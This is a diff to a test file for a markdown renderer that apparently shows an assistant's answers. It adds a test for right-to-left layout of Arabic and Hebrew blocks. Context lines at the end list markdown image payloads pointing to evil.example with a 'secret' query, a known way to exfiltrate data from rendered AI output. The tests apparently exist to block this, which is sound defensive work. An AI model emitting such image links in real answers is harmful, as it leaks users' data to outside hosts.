@@ -14,6 +14,17 @@ describe("an answer's markdown", () => {
     expect(html).toContain("<strong>y</strong>");
   });
 
+  it("lays out each block in the direction of its own words", () => {
+    const html = render(
+      "مرحبا بك:\n\n1. واحد\n\n| اسم |\n|---|\n| `x` |\n\n`npm start` שלום\n\n## Then English, مرحبا",
+    );
+    expect(html).toContain('<p dir="rtl">مرحبا بك:</p>');
+    expect(html).toContain('<ol dir="rtl">');
+    expect(html).toMatch(/class="table-scroll"[^>]* dir="rtl"/);
+    expect(html).toContain('<p dir="rtl"><code>npm start</code>');
+    expect(html).toContain('<h3 class="heading-2">Then English');
+  });
+
   it.each([
     ["a markdown image", "![secret](https://evil.example/?q=secret)"],
     ["an image by reference", "![a][b]\n\n[b]: https://evil.example/x.png"],
